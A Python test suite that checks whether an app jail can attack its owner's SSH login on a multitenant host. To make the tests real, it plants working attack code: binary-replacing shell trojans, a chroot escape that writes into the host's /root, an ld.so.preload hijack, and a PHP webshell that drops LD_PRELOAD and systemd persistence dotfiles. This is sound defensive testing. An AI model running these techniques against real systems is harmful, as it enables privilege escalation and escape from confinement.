"""Attacks of a hostile app jail on its owner's SSH login (issue 13; docs/apps.md "The owner's SSH
login"): the jail, root inside it included, must not get anything run with host privileges, and a
hijacked app must not get code run on the host side of the login.

(a) **Trojans in the jail.** As uid 0 inside alpha's jail with no capability left (the confinement
    of the jail's Apache parent, then every capability dropped), the suite replaces the programs
    the old login ran from the jail (``setpriv``, ``python3``) and others a login could be tempted
    to use (``env``, ``nsenter``) with a script that records who runs it, and plants an
    ``/etc/ld.so.preload`` with a marker library. Each record: uid, CapEff, NoNewPrivs, PID
    namespace. The owner then logs in (``ssh alpha CMD`` and an interactive session): no trojan
    may run at all before the user's shell, whatever runs in the session runs as alpha with no
    capability and no_new_privs in the jail's PID namespace, and a canary the trojans try to
    write into the host's /root (chroot escape) is never created.
    CONTROL: the command line of the former login helper (``nsenter ... --root`` then the jail's
    ``/usr/bin/setpriv``), run by hand as host root, executes the trojan with the host root's
    capabilities, and the trojan's escape writes the canary: the attack is real.
(b) **Dotfiles of a webshell.** A PHP file run by alpha's Apache worker writes, in alpha's home,
    ``~/.pam_environment`` (a variable and ``LD_PRELOAD`` of a library it uploaded) and a systemd
    user unit. After a login nothing of it reached the host side: the host-side login processes'
    environment has neither, the library never loaded and the unit never ran; the host account's
    home is the empty, root-owned login home. CONTROL: the same variable in the login home's
    ``.pam_environment`` (which only root can write) does reach the host-side processes: pam_env
    reads a home's file, so the jail-writable home would have been read.

The login is timed from the controller (ssh to the first output) and on the host (app-enter alone);
the numbers go to tests/output/multitenant-login-timing.json.
"""

from __future__ import annotations

import base64
import json
import shlex
import statistics
import subprocess
import time
import uuid
from pathlib import Path

import pytest

from attacklib import JAILENTER, install_jailenter
from hostlib import jail_pids, load_vars, public_address

VARS = load_vars(__file__)
APPS = {app["name"]: app for app in VARS["apps_list"]}
HERE = Path(__file__).resolve().parent
KEY = HERE.parents[2] / ".cache" / "multitenant" / "alpha_owner_key"
OUTPUT = HERE.parents[1] / "output"
JAILS = "/var/lib/jailhost/jails"
LOGIN_HOME = "/var/lib/jailhost-login-home"
ENTER = "/usr/local/libexec/jailhost/app-enter"
# In the jail: the trojans' record, and what they plant; on the host: the canary of an escape and
# the record of anything loaded or run on the host side of a login.
JAIL_MARK = "/jailhost-trojan.log"
JAIL_LIB = "/usr/lib/jailhost-mark.so"
CANARY = "/root/jailhost-login-canary"
HOST_MARK = "/var/tmp/jailhost-hostside.log"
PROGRAMS = ["/usr/bin/setpriv", "/usr/bin/python3", "/usr/bin/env", "/usr/bin/nsenter"]

# Each trojan records itself, tries the chroot escape towards the host's /root (it works for a
# process with CAP_SYS_CHROOT whose root is a chroot inside a mount namespace that has the host's
# tree), then runs the real program so that nothing visibly breaks.
ESCAPE = (
    "import os\n"
    "os.makedirs('/.jailhost-escape', exist_ok=True)\n"
    "fd = os.open('/', os.O_RDONLY)\n"
    "os.chroot('/.jailhost-escape')\n"
    "os.fchdir(fd)\n"
    "for _ in range(64): os.chdir('..')\n"
    "os.chroot('.')\n"
    f"open({CANARY!r}, 'a').write('escaped by a trojan of the app jail\\n')\n"
)
TROJAN = f"""#!/bin/sh
# Test trojan of test_multitenant_login_attacks.py (removed by the suite).
# One write per record: the programs it starts append their own (preload) records meanwhile.
record="trojan=$0 uid=$(id -u) $(grep -E '^(CapEff|NoNewPrivs):' /proc/self/status | tr -d '\\t' | tr ':\\n' '= ')"
printf '%s pidns=%s\\n' "$record" "$(readlink /proc/self/ns/pid)" >> {JAIL_MARK} 2>/dev/null
for py in /usr/bin/python3.jailhost-real /usr/bin/python3; do
  [ -x "$py" ] && {{ "$py" -I -c {shlex.quote(ESCAPE)} 2>/dev/null; break; }}
done
exec "$0.jailhost-real" "$@"
"""


def ssh(host, user: str, command: str | None = None, *options: str, stdin: str | None = None, tty: bool = False):
    argv = ["ssh", *options, "-i", str(KEY), "-o", "IdentitiesOnly=yes", "-o", "BatchMode=yes",
            "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
            "-o", "ConnectTimeout=10", *(["-tt"] if tty else []), f"{user}@{public_address(host)}"]
    if command is not None:
        argv.append(command)
    return subprocess.run(argv, input=stdin, capture_output=True, text=True, timeout=60, check=False)


@pytest.fixture(scope="module")
def marker_library(tmp_path_factory) -> bytes:
    """The marker library (login_marker.c), built on the controller for the test host (both Debian 12)."""
    out = tmp_path_factory.mktemp("marker") / "mark.so"
    subprocess.run(["cc", "-shared", "-fPIC", "-O2", "-U_FORTIFY_SOURCE", "-fno-stack-protector", "-o", str(out),
                    str(HERE / "login_marker.c")], check=True)
    return out.read_bytes()


def jail_as_root(host, code: str) -> dict:
    """Run Python CODE as uid 0 in alpha's jail with the confinement of its Apache parent (a root
    process of the jail), after dropping every capability it still has; CODE prints JSON."""
    _, _, daemons = jail_pids(host, "alpha")
    prelude = (
        "import ctypes, json, os, struct\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "header = ctypes.create_string_buffer(struct.pack('Ii', 0x20080522, 0), 8)\n"
        "assert libc.capset(header, ctypes.create_string_buffer(24)) == 0, os.strerror(ctypes.get_errno())\n"
        "STATUS = dict(l.split(':', 1) for l in open('/proc/self/status').read().splitlines())\n"
        "ME = {k: STATUS[k].strip() for k in ('Uid', 'CapEff', 'CapPrm', 'NoNewPrivs')}\n"
    )
    marker = f"EOF_{uuid.uuid4().hex}"
    # python3.jailhost-real when python3 is a trojan already (the suite's own restore).
    cmd = host.run(f"timeout 60 {JAILENTER} {daemons[0]} root -- /bin/sh -c "
                   f"'exec $(command -v python3.jailhost-real || command -v python3) -I -' <<'{marker}'\n"
                   f"{prelude}{code}{marker}")
    assert cmd.rc == 0 and cmd.stdout.strip(), f"rc {cmd.rc}: {cmd.stderr}"
    result = json.loads(cmd.stdout.strip().splitlines()[-1])
    assert result["me"]["Uid"].split()[0] == "0" and result["me"]["CapEff"] == "0" * 16, result["me"]
    assert result["me"]["CapPrm"] == "0" * 16 and result["me"]["NoNewPrivs"] == "1", result["me"]
    return result


PLANT = f"""
import base64
mark = {JAIL_MARK!r}
os.close(os.open(mark, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o666))
os.chmod(mark, 0o666)
planted = []
for path in {PROGRAMS!r}:
    if not os.path.lexists(path) or os.path.lexists(path + '.jailhost-real'):
        continue
    os.rename(path, path + '.jailhost-real')
    with open(path, 'w') as handle:
        handle.write(TROJAN)
    os.chmod(path, 0o755)
    planted.append(path)
with open({JAIL_LIB!r}, 'wb') as handle:
    handle.write(base64.b64decode(LIBRARY))
os.chmod({JAIL_LIB!r}, 0o755)
with open('/etc/ld.so.preload', 'w') as handle:
    handle.write({JAIL_LIB!r} + '\\n')
print(json.dumps({{'me': ME, 'planted': planted}}))
"""

RESTORE = f"""
if os.path.exists('/etc/ld.so.preload'):
    os.unlink('/etc/ld.so.preload')
restored = []
for path in {PROGRAMS!r}:
    if os.path.lexists(path + '.jailhost-real'):
        os.rename(path + '.jailhost-real', path)
        restored.append(path)
for path in ({JAIL_LIB!r}, {JAIL_MARK!r}):
    if os.path.lexists(path):
        os.unlink(path)
if os.path.isdir('/.jailhost-escape'):
    os.rmdir('/.jailhost-escape')
print(json.dumps({{'me': ME, 'restored': restored}}))
"""


def records(host, child: int) -> list[dict]:
    """The lines of the jail's marker file, as dicts (trojan or preload, uid, CapEff, ...)."""
    text = host.run(f"cat /proc/{child}/root{JAIL_MARK}").stdout
    lines = []
    for line in text.splitlines():
        fields = dict(part.split("=", 1) for part in line.split() if "=" in part)
        fields["kind"] = "trojan" if "trojan" in fields else "preload"
        lines.append(fields)
    return lines


def clear_records(host, child: int) -> None:
    host.run_expect([0], f": > /proc/{child}/root{JAIL_MARK}")


@pytest.fixture(scope="module")
def trojans(host, marker_library):
    """Alpha's jail with the trojans and the preload library planted as capability-less root."""
    install_jailenter(host)
    host.run(f"rm -f {CANARY}")
    _, child, _ = jail_pids(host, "alpha")
    code = f"TROJAN = {TROJAN!r}\nLIBRARY = {base64.b64encode(marker_library).decode()!r}\n" + PLANT
    planted = jail_as_root(host, code)
    try:
        assert {"/usr/bin/setpriv", "/usr/bin/env", "/usr/bin/nsenter"} <= set(planted["planted"]), planted
        yield {"child": child, "planted": planted["planted"],
               "host_caps": host.check_output("grep '^CapEff:' /proc/self/status").split()[1],
               "host_pidns": host.check_output("readlink /proc/1/ns/pid"),
               "jail_pidns": host.check_output(f"readlink /proc/{child}/ns/pid"),
               "uid": host.check_output("id -u alpha")}
    finally:
        restored = jail_as_root(host, RESTORE)
        host.run(f"rm -f {CANARY}")
        assert set(restored["restored"]) == set(planted["planted"]), restored


def assert_confined(lines: list[dict], trojans: dict) -> None:
    """Every record is of alpha, without capabilities, with no_new_privs, in the jail's PID namespace."""
    for line in lines:
        assert line.get("uid") == trojans["uid"], line
        assert line.get("CapEff") == "0" * 16, line
        assert line.get("NoNewPrivs") == "1", line
        assert line.get("pidns") == trojans["jail_pidns"] != trojans["host_pidns"], line


def test_control_the_former_login_runs_the_jails_trojan_as_host_root(host, trojans):
    """The command line the former app-enter exec'd, by hand: the jail's setpriv runs as host root."""
    child, uid = trojans["child"], trojans["uid"]
    clear_records(host, child)
    host.run_expect([0], f"nsenter --target={child} --mount --uts --ipc --net --pid --root --wd -- "
                         f"/usr/bin/setpriv --reuid={uid} --regid={uid} --clear-groups --inh-caps=-all "
                         "--ambient-caps=-all --bounding-set=-all --no-new-privs --reset-env -- /bin/true")
    lines = records(host, child)
    setpriv = [line for line in lines if line.get("trojan") == "/usr/bin/setpriv"]
    assert setpriv, lines
    assert setpriv[0]["uid"] == "0" and setpriv[0]["NoNewPrivs"] == "0", setpriv
    assert setpriv[0]["CapEff"] == trojans["host_caps"], (setpriv, trojans["host_caps"])
    # The planted ld.so.preload is loaded by the jail's loader into the same root process.
    assert any(line["kind"] == "preload" and line.get("uid") == "0" and line.get("CapEff") == trojans["host_caps"]
               for line in lines), lines
    # And the trojan left the chroot: a file written into the host's /root.
    assert host.file(CANARY).exists, "the trojan's chroot escape did not reach the host's /root"
    host.run_expect([0], f"rm -f {CANARY}")
    clear_records(host, child)


def test_a_command_login_runs_no_jail_program_before_the_shell(host, trojans):
    child = trojans["child"]
    clear_records(host, child)
    result = ssh(host, "alpha", "id -u; grep -E '^(CapEff|NoNewPrivs|Seccomp):' /proc/self/status")
    assert result.returncode == 0, result.stderr
    assert result.stdout.split()[0] == trojans["uid"]
    assert "NoNewPrivs:\t1" in result.stdout and "Seccomp:\t2" in result.stdout
    lines = records(host, child)
    # No trojan at all: setpriv, python3, env and nsenter of the jail are not part of the login.
    assert [line for line in lines if line["kind"] == "trojan"] == [], lines
    # The preload library is active in the jail (the session's shell loaded it): it ran confined.
    assert any(line["kind"] == "preload" for line in lines), lines
    assert_confined(lines, trojans)
    assert not host.file(CANARY).exists


def test_an_interactive_login_runs_nothing_of_the_jail_unconfined(host, trojans):
    child = trojans["child"]
    clear_records(host, child)
    result = ssh(host, "alpha", None, stdin="grep NoNewPrivs /proc/self/status; exit\n", tty=True)
    assert "NoNewPrivs:\t1" in result.stdout, result.stdout + result.stderr
    lines = records(host, child)
    assert lines, "the session's shell loaded the jail's preload library"
    assert_confined(lines, trojans)
    assert not host.file(CANARY).exists


def test_the_trojans_are_live_and_run_confined_in_a_session(host, trojans):
    """Positive control of the trojans: called from the session, they do run, as alpha, confined,
    and their escape fails."""
    child = trojans["child"]
    clear_records(host, child)
    result = ssh(host, "alpha", "setpriv --dump >/dev/null; env true; echo done")
    assert result.returncode == 0 and result.stdout.strip().endswith("done"), result.stderr
    lines = records(host, child)
    assert {line.get("trojan") for line in lines if line["kind"] == "trojan"} >= {"/usr/bin/setpriv", "/usr/bin/env"}
    assert_confined(lines, trojans)
    assert not host.file(CANARY).exists


def _median_seconds(run, times: int = 5) -> float:
    samples = []
    for _ in range(times):
        start = time.monotonic()
        run()
        samples.append(time.monotonic() - start)
    return statistics.median(samples)


def test_login_time(host, trojans):
    """ssh to the first output of a command in the jail, against the same for root (no jail), and
    app-enter alone on the host (python3 start, checks, joining the jail, the shell)."""
    uid = trojans["uid"]

    def alpha():
        assert ssh(host, "alpha", "echo ready").stdout.strip() == "ready"

    root_key = host.backend.ansible_runner.get_variables(host.backend.host)["ansible_private_key_file"]

    def root():
        out = subprocess.run(
            ["ssh", "-i", root_key, "-o", "IdentitiesOnly=yes", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
             "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR", f"root@{public_address(host)}",
             "echo ready"], capture_output=True, text=True, timeout=60, check=False)
        assert out.stdout.strip() == "ready", out.stderr

    ssh_alpha, ssh_root = _median_seconds(alpha), _median_seconds(root)
    script = ("import os, statistics, subprocess, time\n"
              "env = dict(os.environ, SUDO_USER='alpha', SUDO_UID='" + uid + "')\n"
              "samples = []\n"
              "for _ in range(7):\n"
              "    start = time.monotonic()\n"
              f"    out = subprocess.run([{ENTER!r}, '-c', 'echo ready'], env=env, capture_output=True, text=True)\n"
              "    samples.append(time.monotonic() - start)\n"
              "    assert out.stdout.strip() == 'ready', out.stderr\n"
              "print(statistics.median(samples))\n")
    enter = float(host.check_output(f"python3 -c {shlex.quote(script)}"))
    timing = {"ssh_alpha_to_output_s": round(ssh_alpha, 3), "ssh_root_to_output_s": round(ssh_root, 3),
              "login_overhead_s": round(ssh_alpha - ssh_root, 3), "app_enter_s": round(enter, 3)}
    OUTPUT.mkdir(parents=True, exist_ok=True)
    (OUTPUT / "multitenant-login-timing.json").write_text(json.dumps(timing, indent=2) + "\n")
    print(timing)
    assert enter <= 0.5, timing
    assert ssh_alpha - ssh_root <= 0.5, timing


# (b) Dotfiles a hijacked app writes into its home


def webshell_code(library: bytes) -> str:
    home = "/srv/alpha"
    host_path = f"{JAILS}/alpha/root{home}/.jailhost-hook.so"
    unit = ("[Unit]\nDescription=planted by a webshell (jailhost test)\n[Service]\nType=oneshot\n"
            f"ExecStart=/bin/sh -c 'echo user-unit uid=$$(id -u) >> {HOST_MARK}'\n"
            "[Install]\nWantedBy=default.target\n")
    return f"""<?php
header('Content-Type: application/json');
$home = '{home}';
$done = [];
$done['library'] = file_put_contents("$home/.jailhost-hook.so", base64_decode('{base64.b64encode(library).decode()}')) !== false;
$done['pam_environment'] = file_put_contents("$home/.pam_environment",
    "JAILHOST_PAM_PROBE DEFAULT=planted-by-the-webshell\\nLD_PRELOAD DEFAULT={host_path}\\n") !== false;
@mkdir("$home/.config/systemd/user/default.target.wants", 0755, true);
$done['unit'] = file_put_contents("$home/.config/systemd/user/jailhost-probe.service", {json.dumps(unit)}) !== false;
$done['wants'] = @symlink('../jailhost-probe.service',
    "$home/.config/systemd/user/default.target.wants/jailhost-probe.service") || is_link(
    "$home/.config/systemd/user/default.target.wants/jailhost-probe.service");
$done['uid'] = posix_getuid();
echo json_encode($done);
"""


def host_login_environ(host, command: str = "sleep 4") -> dict:
    """The environment of the host side of a running login (the login shell exec'd sudo: its
    initial environment is what sshd and PAM gave the session)."""
    with subprocess.Popen(["ssh", "-i", str(KEY), "-o", "IdentitiesOnly=yes", "-o", "BatchMode=yes",
                           "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                           "-o", "LogLevel=ERROR", f"alpha@{public_address(host)}", command],
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as session:
        try:
            pid = ""
            deadline = time.monotonic() + 15
            while not pid and time.monotonic() < deadline:
                time.sleep(0.3)
                pid = host.run(f"pgrep -o -f '^/usr/bin/sudo -n {ENTER}'").stdout.strip()
            assert pid, "no host-side login process found"
            raw = host.check_output(f"tr '\\0' '\\n' < /proc/{pid}/environ")
            return dict(line.split("=", 1) for line in raw.splitlines() if "=" in line)
        finally:
            session.communicate(timeout=60)


@pytest.fixture(scope="module")
def planted_dotfiles(host, marker_library):
    home = f"{JAILS}/alpha/root/srv/alpha"
    had_config = host.file(f"{home}/.config").exists
    name = f"probe-{uuid.uuid4().hex}.php"
    path = f"{home}/www/{name}"
    host.run_expect([0], f"cat > {path} <<'EOF_PROBE'\n{webshell_code(marker_library)}EOF_PROBE\nchmod 0644 {path}")
    host.run_expect([0], f"install -m 0666 /dev/null {HOST_MARK}")
    try:
        domain = APPS["alpha"]["domain"]
        out = subprocess.run(
            ["curl", "-s", "--max-time", "30", "--resolve", f"{domain}:80:{public_address(host)}",
             f"http://{domain}/{name}"], capture_output=True, text=True, check=False).stdout
        yield json.loads(out)
    finally:
        host.run(f"rm -f {path} {HOST_MARK} {home}/.pam_environment {home}/.jailhost-hook.so "
                 f"{LOGIN_HOME}/.pam_environment")
        if not had_config:
            host.run(f"rm -rf {home}/.config")


def test_the_host_account_has_an_empty_root_owned_home(host):
    entry = host.check_output("getent passwd alpha").split(":")
    assert entry[5] == LOGIN_HOME and entry[6] == "/usr/local/sbin/jailhost-app-login"
    assert host.check_output(f"stat -c '%u %g %a %F' {LOGIN_HOME}") == "0 0 755 directory"
    assert host.check_output(f"ls -A {LOGIN_HOME}") == ""
    # ... and reachable by the user (sshd changes into it, pam_env would read it: the control below
    # shows that it does).
    uid = host.check_output("id -u alpha")
    host.run_expect([0], f"setpriv --reuid={uid} --regid={uid} --clear-groups ls -A {LOGIN_HOME}")
    # The jail's passwd keeps the real home; sshd reads keys from root's directory only.
    assert ":/srv/alpha:" in host.check_output(f"grep '^alpha:' {JAILS}/alpha/root/etc/passwd")
    sshd = host.check_output("sshd -T -C user=alpha,host=client,addr=10.254.0.1")
    assert "authorizedkeysfile /etc/jailhost/ssh/authorized_keys/%u" in sshd
    assert "permituserenvironment no" in sshd and "permituserrc no" in sshd


def test_a_webshells_dotfiles_reach_nothing_on_the_host(host, planted_dotfiles):
    assert planted_dotfiles == {"library": True, "pam_environment": True, "unit": True, "wants": True,
                                "uid": int(host.check_output("id -u alpha"))}, planted_dotfiles
    environ = host_login_environ(host)
    assert "SSH_CONNECTION" in environ, environ  # control: this is the login's environment
    assert "JAILHOST_PAM_PROBE" not in environ and "LD_PRELOAD" not in environ, environ
    time.sleep(1)
    # Nothing loaded the library and no user unit ran on the host.
    assert host.check_output(f"cat {HOST_MARK}") == ""
    # A systemd user manager of alpha, if libpam-systemd started one, sees the login home only.
    for pid in host.run("pgrep -u alpha -x systemd").stdout.split():
        manager = host.run(f"tr '\\0' '\\n' < /proc/{pid}/environ").stdout
        assert f"HOME={LOGIN_HOME}" in manager.splitlines(), manager


def test_control_pam_env_reads_the_homes_file(host, planted_dotfiles):
    """The same variable in the host home's .pam_environment does reach the host side of the login
    where sshd's PAM stack reads a home's file (Debian 12: pam_env.so user_readenv=1), so a
    jail-writable host home would be an attack path there. Debian 13's /etc/pam.d/sshd no longer
    sets user_readenv: the control then shows that this host's PAM reads no home's file at all
    (the path is closed by the OS, not by us)."""
    reads_home = "user_readenv=1" in " ".join(
        line for line in host.file("/etc/pam.d/sshd").content_string.splitlines()
        if "pam_env.so" in line and not line.lstrip().startswith("#"))
    host.run_expect([0], f"printf 'JAILHOST_PAM_CONTROL DEFAULT=read\\n' > {LOGIN_HOME}/.pam_environment")
    try:
        environ = host_login_environ(host, "sleep 2")
    finally:
        host.run(f"rm -f {LOGIN_HOME}/.pam_environment")
    print(f"  pam_env user_readenv on this host: {reads_home}; "
          f"JAILHOST_PAM_CONTROL in the login: {environ.get('JAILHOST_PAM_CONTROL')!r}")
    assert environ.get("JAILHOST_PAM_CONTROL") == ("read" if reads_home else None), environ
